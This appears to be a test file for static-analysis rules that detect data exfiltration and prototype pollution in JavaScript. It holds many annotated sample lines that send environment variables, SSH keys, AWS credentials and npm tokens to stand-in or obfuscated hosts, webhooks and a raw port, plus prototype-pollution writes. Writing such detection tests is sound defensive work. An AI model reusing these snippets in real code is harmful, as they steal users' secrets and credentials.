// Tests for exfiltration.yaml.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
import { readFileSync as slurp } from 'node:fs';
const { readFileSync } = require('fs');
import * as fsp from 'node:fs/promises';

async function cases(url, req, ws, axios, obj, key, value) {
  // ruleid: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: JSON.stringify(process.env) });
  // ruleid: js.exfil.env-over-network
  axios.post('https://x.example/c', { env: process.env });
  // ruleid: js.exfil.env-over-network
  req.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));
  // ruleid: js.exfil.env-over-network
  ws.send(JSON.stringify({ e: process.env }));
  // ok: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: process.env.PAYLOAD });
  // ok: js.exfil.env-over-network
  req.write(JSON.stringify({ home: process.env.HOME }));
  // ok: js.exfil.env-over-network
  console.log(JSON.stringify(process.env));
  // ok: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: data });

  // ruleid: js.exfil.home-file-over-network
  await fetch(url, { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });
  // ruleid: js.exfil.home-file-over-network
  req.end(JSON.stringify({ k: fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8') }));
  // ruleid: js.exfil.home-file-over-network
  axios.post('https://x.example/u', { aws: await fsp.readFile(path.join(os.homedir(), '.aws', 'credentials')) });
  // ok: js.exfil.home-file-over-network
  await fetch(url, { method: 'POST', body: fs.readFileSync(path.join(__dirname, 'report.json')) });
  // ok: js.exfil.home-file-over-network
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  // ok: js.exfil.home-file-over-network
  console.log(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));

  // ruleid: js.prototype-pollution.proto-write
  obj.__proto__.isAdmin = true;
  // ruleid: js.prototype-pollution.proto-write
  obj['__proto__'][key] = value;
  // ruleid: js.prototype-pollution.proto-write
  obj.constructor.prototype.polluted = value;
  // ruleid: js.prototype-pollution.proto-write
  Target["prototype"][key] = value;
  // ok: js.prototype-pollution.proto-write
  obj.proto.isAdmin = true;
  // ok: js.prototype-pollution.proto-write
  obj['data'][key] = value;
  // ok: js.prototype-pollution.proto-write
  const p = obj.__proto__;
}

function later(ws, req) {
  const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');
  const info = { host: os.hostname() };
  // ruleid: js.exfil.home-file-over-network
  ws.send(JSON.stringify({ info, key }));
  const tok = slurp(path.join(os.homedir(), '.npmrc'), 'utf8');
  // todoruleid: js.exfil.home-file-over-network
  ws.send(tok);
  // ok: js.exfil.home-file-over-network
  req.write(JSON.stringify(info));
  // ruleid: js.exfil.home-file-over-network
  req.write(readFileSync(os.homedir() + '/.bash_history'));
}

async function endpoints(data, axios, user) {
  // ruleid: js.exfil.suspicious-endpoint
  await fetch('https://discord.com/api/webhooks/123456/abcDEF', { method: 'POST', body: data });
  // ruleid: js.exfil.suspicious-endpoint
  https.get(atob('aHR0cHM6Ly94Lm9hc3QuZnVuL2M='));
  const hook = ['https://webhook', 'site/0000-1111'].join('.');
  // ruleid: js.exfil.suspicious-endpoint
  await axios.post(hook, data);
  // ruleid: js.exfil.suspicious-endpoint
  const opts = { hostname: String.fromCharCode(120, 46, 110, 103, 114, 111, 107, 46, 105, 111), path: '/' };
  // ruleid: js.exfil.suspicious-endpoint
  require('net').connect(4444, '203.0.113.7');
  // ruleid: js.exfil.suspicious-endpoint
  await fetch('http://' + '198.51.100.23' + ':8080/up', { method: 'POST', body: data });
  // ruleid: js.exfil.suspicious-endpoint
  https.request('https://api.telegram.org/bot123:AAE/sendMessage');
  // ok: js.exfil.suspicious-endpoint
  await fetch('https://registry.npmjs.org/mytool/latest');
  // ok: js.exfil.suspicious-endpoint
  await fetch('http://127.0.0.1:8080/health');
  // ok: js.exfil.suspicious-endpoint
  const local = { host: '192.168.1.10', port: 80 };
  // ok: js.exfil.suspicious-endpoint
  await axios.post(user.webhookUrl, data);
  // ok: js.exfil.suspicious-endpoint
  await fetch('https://example.com/docs/discord-webhooks');

  // ruleid: js.exfil.ip-lookup
  const ip = await (await fetch('https://api.ipify.org?format=json')).json();
  // ruleid: js.exfil.ip-lookup
  https.get('https://ipinfo.io/json');
  // ruleid: js.exfil.ip-lookup
  await axios.get(Buffer.from('https://ifconfig.me', 'utf8').toString());
  // ok: js.exfil.ip-lookup
  await fetch('https://example.com/ip');
  // ok: js.exfil.ip-lookup
  https.get('https://registry.npmjs.org/ipify');
  // ok: js.exfil.ip-lookup
  await axios.get(user.ipService);
  return [opts, local, ip];
}

module.exports = { cases, later, endpoints };

// A copy of the whole environment reaching a request through variables.
async function envCopies(url, req, ws, axios) {
  const snapshot = { ...process.env };
  const blob = Buffer.from(JSON.stringify(snapshot)).toString('base64');
  // ruleid: js.exfil.env-over-network
  axios.post('https://e.example.invalid/collect', { blob });
  const all = Object.assign({}, process.env);
  // ruleid: js.exfil.env-over-network
  ws.send(JSON.stringify({ host: 'x', all }));
  // Through variables, request streams are not followed (cost).
  // todoruleid: js.exfil.env-over-network
  req.end(JSON.stringify({ host: 'x', all }));
  const pairs = Object.entries(process.env);
  const lines = pairs.map(([k, v]) => k + '=' + v).join('\n');
  // ruleid: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: lines });
  const childEnv = { ...process.env, NODE_ENV: 'production' };
  // ok: js.exfil.env-over-network
  require('child_process').spawn('node', ['build.js'], { env: childEnv });
  const env = { ...process.env };
  // ok: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: JSON.stringify({ port: process.env.PORT }) });
  // ok: js.exfil.env-over-network
  axios.post(url, { tool: 'x', version: '1.0.0' });
  const names = Object.keys(process.env).length;
  // A known false alarm: the variable env above also matches the property
  // name env of process.env (the pattern engine's <... $S ...>).
  // todook: js.exfil.env-over-network
  ws.send(JSON.stringify({ names }));
  return env;
}
module.exports.envCopies = envCopies;
